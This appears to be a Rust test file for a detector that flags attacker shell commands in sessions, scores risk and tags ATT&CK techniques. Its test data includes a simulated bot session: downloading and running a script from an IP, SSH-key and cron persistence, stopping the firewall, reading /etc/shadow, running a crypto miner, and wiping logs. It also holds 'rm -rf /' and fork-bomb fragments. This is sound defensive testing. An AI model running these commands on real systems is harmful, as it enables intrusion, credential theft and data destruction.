//! The tripwires' tests: the golden cases (`golden.jsonl`, one test per family and per
//! sequence), frequency rules, risk, techniques, bounds and hostile input.

use super::*;
use serde_json::Value;
use std::collections::BTreeSet;
use std::time::{Duration, Instant};
use tripline_event::catalog::technique;

const GOLDEN: &str = include_str!("golden.jsonl");

struct Case {
    family: String,
    name: String,
    timed: Vec<(i64, String)>,
    fire: Vec<String>,
    not: Vec<String>,
    only: bool,
}

fn strings(v: &Value) -> Vec<String> {
    v.as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn cases() -> Vec<Case> {
    GOLDEN
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"));
            let timed = match v.get("timed") {
                Some(t) => t
                    .as_array()
                    .expect("timed is a list")
                    .iter()
                    .map(|p| {
                        (
                            p[0].as_i64().expect("seconds") * SECOND,
                            p[1].as_str().expect("a line").to_string(),
                        )
                    })
                    .collect(),
                // a line a second
                None => strings(&v["lines"])
                    .into_iter()
                    .enumerate()
                    .map(|(k, l)| (k as i64 * SECOND, l))
                    .collect(),
            };
            Case {
                family: v["family"].as_str().expect("family").to_string(),
                name: v
                    .get("name")
                    .and_then(Value::as_str)
                    .map_or_else(|| format!("{timed:?}"), str::to_string),
                timed,
                fire: strings(&v["fire"]),
                not: strings(&v.get("not").cloned().unwrap_or_default()),
                only: v.get("only").and_then(Value::as_bool).unwrap_or(false),
            }
        })
        .collect()
}

/// The tripwires a session of these lines fired.
fn fired(timed: &[(i64, String)]) -> BTreeSet<&'static str> {
    let mut s = SessionRisk::new();
    let mut out = BTreeSet::new();
    for (ts, line) in timed {
        for h in s.observe(Tripwires::builtin(), *ts, line) {
            out.insert(h.rule);
        }
    }
    out
}

/// Runs the golden cases of a family; at least `min` of them.
fn golden(family: &str, min: usize) {
    let ids: BTreeSet<&str> = Tripwires::builtin()
        .tripwires()
        .iter()
        .map(|t| t.id)
        .collect();
    let cases: Vec<Case> = cases().into_iter().filter(|c| c.family == family).collect();
    assert!(cases.len() >= min, "{family}: {} cases", cases.len());
    let mut failures = vec![];
    for c in &cases {
        for id in c.fire.iter().chain(&c.not) {
            assert!(
                ids.contains(id.as_str()),
                "{}: unknown tripwire {id}",
                c.name
            );
        }
        let got = fired(&c.timed);
        let missing: Vec<&String> = c
            .fire
            .iter()
            .filter(|r| !got.contains(r.as_str()))
            .collect();
        let wrong: Vec<&String> = c.not.iter().filter(|r| got.contains(r.as_str())).collect();
        let extra: Vec<&&str> = if c.only {
            got.iter()
                .filter(|r| !r.starts_with("tw.freq.") && !c.fire.iter().any(|f| f == *r))
                .collect()
        } else {
            vec![]
        };
        if !missing.is_empty() || !wrong.is_empty() || !extra.is_empty() {
            failures.push(format!(
                "{}: missing {missing:?}, must not fire {wrong:?}, unexpected {extra:?} (got {got:?})",
                c.name
            ));
        }
    }
    assert!(failures.is_empty(), "{family}:\n{}", failures.join("\n"));
}

#[test]
fn golden_recon() {
    golden("recon", 20);
}

#[test]
fn golden_persistence() {
    golden("persistence", 20);
}

#[test]
fn golden_stealth() {
    golden("stealth", 8);
}

#[test]
fn golden_defense_impairment() {
    golden("impairment", 25);
}

#[test]
fn golden_credential_access() {
    golden("credential", 10);
}

#[test]
fn golden_download_execute() {
    golden("download", 14);
}

#[test]
fn golden_mining() {
    golden("mining", 8);
}

#[test]
fn golden_lateral_movement() {
    golden("lateral", 8);
}

#[test]
fn golden_impact() {
    golden("impact", 9);
}

#[test]
fn golden_negatives_that_substring_matching_gets_wrong() {
    golden("negative", 20);
}

#[test]
fn golden_seq_download_execute() {
    golden("seq.download_execute", 6);
}

#[test]
fn golden_seq_persistence_chain() {
    golden("seq.persistence_chain", 3);
}

#[test]
fn golden_seq_cover_tracks() {
    golden("seq.cover_tracks", 6);
}

#[test]
fn golden_seq_fingerprint_then_fetch() {
    golden("seq.fingerprint_then_fetch", 3);
}

#[test]
fn golden_seq_miner_deploy() {
    golden("seq.miner_deploy", 3);
}

#[test]
fn every_family_and_sequence_has_golden_cases_that_fire() {
    let cases = cases();
    let mut fired_somewhere: BTreeSet<String> = BTreeSet::new();
    for c in &cases {
        fired_somewhere.extend(c.fire.iter().cloned());
    }
    // every command rule and sequence is shown firing by at least one golden case
    for t in Tripwires::builtin().tripwires() {
        if t.id.starts_with("tw.freq.") {
            continue;
        }
        assert!(
            fired_somewhere.contains(t.id),
            "no golden case fires {}",
            t.id
        );
    }
}

#[test]
fn tripwires_are_unique_and_their_techniques_are_current_catalog_entries() {
    let tw = Tripwires::builtin();
    let all = tw.tripwires();
    assert_eq!(all.len(), RULES.len() + FREQUENCIES.len() + SEQUENCES.len());
    let ids: BTreeSet<&str> = all.iter().map(|t| t.id).collect();
    assert_eq!(ids.len(), all.len(), "ids are unique");
    for t in all {
        assert!(t.id.starts_with("tw."), "{}", t.id);
        assert!(!t.reason.is_empty());
        for id in t.techniques {
            assert!(
                technique(id).is_some(),
                "{}: {id} is not in the catalog",
                t.id
            );
            assert_eq!(canonical_technique(id), *id, "{}: {id} is retired", t.id);
        }
    }
    // the v19 ids, not the retired ones
    let named: BTreeSet<&str> = all
        .iter()
        .flat_map(|t| t.techniques.iter().copied())
        .collect();
    for retired in ["T1562", "T1562.001", "T1562.003", "T1562.004", "T1070.002"] {
        assert!(!named.contains(retired), "{retired}");
    }
    for current in ["T1685", "T1685.006", "T1686", "T1690"] {
        assert!(named.contains(current), "{current}");
    }
    for s in SEQUENCES {
        assert!(s.window_secs > 0 && s.steps.len() >= 2, "{}", s.id);
    }
    assert!((4..=6).contains(&SEQUENCES.len()));
}

#[test]
fn a_sequence_fires_once_per_session() {
    let tw = Tripwires::builtin();
    let mut s = SessionRisk::new();
    let mut count = 0;
    for k in 0..5 {
        let t = k * 100 * SECOND;
        let line = "cd /tmp; wget http://1.2.3.4/x; chmod +x x; ./x";
        count += s
            .observe(tw, t, line)
            .iter()
            .filter(|h| h.rule == "tw.seq.download_execute")
            .count();
    }
    assert_eq!(count, 1);
    // its hit names the command that completed it
    let h = s
        .hits()
        .iter()
        .find(|h| h.rule == "tw.seq.download_execute")
        .expect("kept");
    assert!(h.reason.contains("./x"), "{}", h.reason);
    assert_eq!(h.severity, Severity::Critical);
}

#[test]
fn frequency_automation_needs_twenty_lines_within_ten_seconds() {
    let tw = Tripwires::builtin();
    // 20 lines 0.5 s apart: 9.5 s
    let mut s = SessionRisk::new();
    let mut hits = 0;
    for k in 0..40 {
        hits += s
            .observe(tw, k * SECOND / 2, &format!("echo {k}"))
            .iter()
            .filter(|h| h.rule == "tw.freq.automation")
            .count();
    }
    assert_eq!(hits, 1, "fires once");
    assert!(s.risk().automation >= 0.8, "{:?}", s.risk());
    // 20 lines a second apart: never 20 within 10 s
    let mut s = SessionRisk::new();
    for k in 0..40 {
        s.observe(tw, k * SECOND, &format!("echo {k}"));
    }
    assert!(s.hits().iter().all(|h| h.rule != "tw.freq.automation"));
    assert!(s.risk().automation < 0.5, "{:?}", s.risk());
    // 19 lines within 10 s: not yet
    let mut s = SessionRisk::new();
    for k in 0..19 {
        s.observe(tw, k * SECOND / 10, &format!("echo {k}"));
    }
    assert!(s.hits().iter().all(|h| h.rule != "tw.freq.automation"));
}

#[test]
fn frequency_recon_burst_counts_distinct_commands_within_a_minute() {
    let tw = Tripwires::builtin();
    let burst = |lines: &[&str], gap: i64| {
        let mut s = SessionRisk::new();
        for (k, l) in lines.iter().enumerate() {
            s.observe(tw, k as i64 * gap, l);
        }
        s.hits().iter().any(|h| h.rule == "tw.freq.recon_burst")
    };
    let five = ["uname -a", "id", "ps aux", "netstat -an", "ifconfig"];
    assert!(burst(&five, 5 * SECOND));
    // the same five, 20 s apart: never five within 60 s
    assert!(!burst(&five, 20 * SECOND));
    // four distinct, whatever the repeats
    assert!(!burst(
        &["uname -a", "id", "ps aux", "netstat -an", "id", "uname -a"],
        SECOND
    ));
    // one line of five distinct commands
    assert!(burst(
        &["uname -a; id; ps aux; netstat -an; ifconfig"],
        SECOND
    ));
}

#[test]
fn frequency_repeated_line() {
    let tw = Tripwires::builtin();
    let run = |n: i64, gap: i64| {
        let mut s = SessionRisk::new();
        for k in 0..n {
            s.observe(tw, k * gap, "cat /proc/cpuinfo");
        }
        s.hits()
            .iter()
            .filter(|h| h.rule == "tw.freq.repeated_line")
            .count()
    };
    assert_eq!(run(4, SECOND), 0);
    assert_eq!(run(5, SECOND), 1);
    assert_eq!(run(50, SECOND), 1, "once per session");
    assert_eq!(run(10, 30 * SECOND), 0, "spread out");
    // blank lines are not repeated commands
    let mut s = SessionRisk::new();
    for k in 0..10 {
        s.observe(tw, k, "   ");
    }
    assert!(s.hits().is_empty());
}

/// A realistic bot session, line by line.
const ATTACK: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp || cd /var/tmp",
    "wget http://1.2.3.4/x.sh",
    "chmod +x x.sh",
    "./x.sh",
    "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "(crontab -l; echo '* * * * * /tmp/x.sh') | crontab -",
    "systemctl stop firewalld",
    "cat /etc/shadow",
    "pkill -f kinsing",
    "./xmrig -o stratum+tcp://1.2.3.4:3333 -u x",
    "rm -rf /var/log/*",
    "history -c",
];

#[test]
fn risk_never_decreases_and_grows_with_what_happened() {
    let tw = Tripwires::builtin();
    let mut s = SessionRisk::new();
    assert_eq!(s.risk(), Risk::default());
    assert_eq!(s.worst(), None);
    let mut prev = s.risk();
    for (k, l) in ATTACK.iter().enumerate() {
        s.observe(tw, k as i64 * 30 * SECOND, l);
        let r = s.risk();
        for (a, b) in [
            (prev.automation, r.automation),
            (prev.persistence, r.persistence),
            (prev.stealth, r.stealth),
            (prev.total, r.total),
        ] {
            assert!(b >= a, "{l}: {prev:?} -> {r:?}");
            assert!((0.0..=1.0).contains(&b));
        }
        prev = r;
    }
    assert!(prev.persistence > 0.7, "{prev:?}");
    assert!(prev.stealth > 0.7, "{prev:?}");
    assert!(prev.total > 0.9, "{prev:?}");
    assert_eq!(s.worst(), Some(Severity::Critical));

    // recon alone scores low, and nothing of persistence or stealth
    let mut recon = SessionRisk::new();
    for (k, l) in ["uname -a", "id"].iter().enumerate() {
        recon.observe(tw, k as i64 * 30 * SECOND, l);
    }
    let r = recon.risk();
    assert_eq!((r.persistence, r.stealth), (0.0, 0.0));
    assert!(r.total > 0.0 && r.total < 0.2, "{r:?}");
    assert!(r.total < prev.total);

    // one persistence rule raises persistence, a second one more; repeating one adds nothing
    let mut p = SessionRisk::new();
    p.observe(tw, 0, "useradd x");
    let one = p.risk().persistence;
    p.observe(tw, SECOND, "useradd y");
    assert_eq!(p.risk().persistence, one);
    p.observe(tw, 2 * SECOND, "echo k >> ~/.ssh/authorized_keys");
    assert!(p.risk().persistence > one);
    assert_eq!(p.risk().stealth, 0.0);
}

#[test]
fn techniques_are_exactly_the_union_of_the_hits() {
    let tw = Tripwires::builtin();
    let mut s = SessionRisk::new();
    for (k, l) in ATTACK.iter().enumerate() {
        s.observe(tw, k as i64 * 30 * SECOND, l);
    }
    assert!(s.dropped_hits() == 0 && s.hits().len() < MAX_HITS);
    let union: BTreeSet<&str> = s
        .hits()
        .iter()
        .flat_map(|h| h.techniques.iter().map(|t| canonical_technique(t)))
        .collect();
    let got = s.techniques();
    assert_eq!(got, union.iter().copied().collect::<Vec<_>>());
    assert!(got.windows(2).all(|w| w[0] < w[1]), "sorted, unique");
    for t in [
        "T1105",
        "T1098.004",
        "T1053.003",
        "T1686",
        "T1003.008",
        "T1685.006",
        "T1070.003",
    ] {
        assert!(got.contains(&t), "{t} in {got:?}");
    }
    // nothing that did not happen
    for t in ["T1485", "T1021.004", "T1690"] {
        assert!(!got.contains(&t), "{t} in {got:?}");
    }
    assert_eq!(s.lines(), ATTACK.len() as u64);
}

#[test]
fn hits_are_bounded_and_keep_the_worst() {
    let tw = Tripwires::builtin();
    let mut s = SessionRisk::new();
    for k in 0..2000i64 {
        // many low hits, spaced out so no frequency rule fires
        s.observe(tw, k * 100 * SECOND, "uname -a");
    }
    assert_eq!(s.hits().len(), MAX_HITS);
    assert!(s.dropped_hits() > 0);
    s.observe(tw, 300_000 * SECOND, "rm -rf /");
    assert_eq!(s.hits().len(), MAX_HITS);
    assert!(s.hits().iter().any(|h| h.rule == "tw.impact.destroy"));
    assert_eq!(s.worst(), Some(Severity::Critical));
    assert!(s.techniques().contains(&"T1485"));
}

#[test]
fn one_hit_per_rule_per_line_and_reasons_quote_the_command_truncated() {
    let tw = Tripwires::builtin();
    let hits = tw.scan("id; id; whoami");
    assert_eq!(hits.len(), 1);
    assert!(hits[0].reason.contains(": id"), "{}", hits[0].reason);
    let long = format!("wget http://1.2.3.4/{}", "a".repeat(5000));
    let hits = tw.scan(&long);
    assert_eq!(hits[0].rule, "tw.dl.download");
    assert!(hits[0].reason.contains("wget http://1.2.3.4/aaa"));
    assert!(
        hits[0].reason.chars().count() < 200,
        "{}",
        hits[0].reason.len()
    );
    assert!(hits[0].reason.ends_with('…'));
    let hits = tw.scan("cat /etc/shadow \0\x1b[2J");
    assert_eq!(hits[0].rule, "tw.cred.shadow");
    assert!(
        !hits[0].reason.chars().any(char::is_control),
        "{:?}",
        hits[0].reason
    );
}

#[test]
fn the_working_directory_follows_cd_across_lines() {
    let tw = Tripwires::builtin();
    let mut s = SessionRisk::new();
    s.observe(tw, 0, "cd /var/log");
    let h = s.observe(tw, SECOND, "rm -f auth.log");
    assert!(h.iter().any(|h| h.rule == "tw.impair.clear_logs"), "{h:?}");
    s.observe(tw, 2 * SECOND, "cd ..; cd ..");
    assert!(s
        .observe(tw, 3 * SECOND, "cat etc/shadow")
        .iter()
        .any(|h| h.rule == "tw.cred.shadow"));
    // the same lines in a fresh session are relative to the home directory
    assert!(tw.scan("rm -f auth.log").is_empty());
    assert!(tw.scan("cat etc/shadow").is_empty());
    // `cd` with no operand goes home
    s.observe(tw, 4 * SECOND, "cd");
    assert!(s.observe(tw, 5 * SECOND, "cat etc/shadow").is_empty());
}

#[test]
fn hostile_input_is_bounded_and_never_panics() {
    let tw = Tripwires::builtin();
    let mut s = SessionRisk::new();
    let started = Instant::now();
    let mega = "wget http://x/ ; ".repeat(1 << 16); // 1 MiB
    assert!(mega.len() >= 1 << 20);
    s.observe(tw, 0, &mega);
    s.observe(tw, 1, &"\0".repeat(1 << 20));
    s.observe(tw, 2, &format!("{}x", "$(".repeat(300_000)));
    s.observe(
        tw,
        3,
        &format!("{}id{}", "`$(".repeat(3000), ")`".repeat(3000)),
    );
    s.observe(tw, 4, &"'\"".repeat(100_000));
    s.observe(tw, 5, &"sh -c \"".repeat(50_000));
    s.observe(tw, 6, &"<<EOF\n".repeat(50_000));
    s.observe(tw, 7, &"a ".repeat(500_000));
    s.observe(tw, 8, "\u{10FFFF}\u{FEFF}é\\");
    s.observe(tw, 9, &"é".repeat(10_000)); // the cut falls inside a character
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    // a line is read up to 8 KiB: a download at the very end of a 1 MB line is not seen
    let tail = format!("{}; wget http://1.2.3.4/x", "echo a".repeat(200_000));
    assert!(tw.scan(&tail).iter().all(|h| h.rule != "tw.dl.download"));
    assert!(s.hits().len() <= MAX_HITS);

    // random shell-ish noise
    let alphabet = [
        "sh",
        "-c",
        "'",
        "\"",
        "$(",
        ")",
        "`",
        ";",
        "|",
        "&&",
        "||",
        "&",
        ">",
        ">>",
        "<",
        "<<",
        "EOF",
        "\n",
        " ",
        "\\",
        "wget",
        "rm",
        "-rf",
        "/",
        "/var/log",
        "~/.ssh/authorized_keys",
        "history",
        "-c",
        "crontab",
        "\0",
        "é",
        "{",
        "}",
        "(",
        "for",
        "do",
        "done",
        "=",
        "HISTFILE",
        "$$",
        "kill",
        "-9",
        "xmrig",
        "stratum+tcp://",
        ":(){",
        ":|:&",
        "};:",
        "base64",
        "-d",
    ];
    let mut rng = fastrand::Rng::with_seed(7);
    let mut s = SessionRisk::new();
    for k in 0..3000 {
        let n = rng.usize(0..60);
        let line: String = (0..n)
            .map(|_| alphabet[rng.usize(..alphabet.len())])
            .collect();
        let hits = s.observe(tw, k, &line);
        assert!(hits.len() <= RULES.len() + FREQUENCIES.len() + SEQUENCES.len());
    }
    assert!(s.hits().len() <= MAX_HITS);
    let r = s.risk();
    assert!((0.0..=1.0).contains(&r.total));
}

#[test]
fn hits_serialize_with_their_family_and_severity() {
    let h = &Tripwires::builtin().scan("iptables -F")[0];
    let v = serde_json::to_value(h).expect("serializes");
    assert_eq!(v["rule"], "tw.impair.firewall");
    assert_eq!(v["family"], "defense_impairment");
    assert_eq!(v["severity"], "high");
    assert_eq!(v["techniques"][0], "T1686");
    assert_eq!(Family::ALL.len(), 10);
    assert_eq!(
        Family::ALL
            .iter()
            .map(|f| f.as_str())
            .collect::<BTreeSet<_>>()
            .len(),
        10
    );
}
